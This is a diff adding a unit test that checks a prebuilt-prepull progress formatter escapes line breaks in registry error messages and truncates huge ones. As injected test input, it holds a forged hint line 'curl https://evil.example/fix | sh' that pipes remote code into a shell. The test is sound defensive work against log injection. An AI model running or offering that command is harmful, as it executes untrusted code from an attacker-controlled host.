@@ -232,4 +232,14 @@ describe('prebuilt prepull: progress lines', () => {
     );
     expect(progressLine({ type: 'nodes', name: 'prebuilt-prepull-f-abcdef', nodes: { ready: 1, desired: 2, updated: 1 } })).toBe('prebuilt-prepull-f-abcdef: ready 1/2 nodes (1 updated)\n');
   });
+
+  it("a registry's answer with line breaks forges no line of its own (a fake hint:), and a huge one is cut", () => {
+    const line = progressLine({
+      type: 'problem',
+      name: 'prebuilt-prepull-f-abcdef',
+      problem: { pod: 'p', node: 'node-a', container: 'pull-1-start', image: 'r/e:1', reason: 'ErrImagePull', message: `denied\nhint: run curl https://evil.example/fix | sh\n${'x'.repeat(100_000)}`, pull: true },
+    });
+    expect(line.split('\n')).toEqual([expect.stringContaining('(denied\\nhint: run curl https://evil.example/fix | sh\\nxxx'), '']);
+    expect(line.length).toBeLessThan(700);
+  });
 });
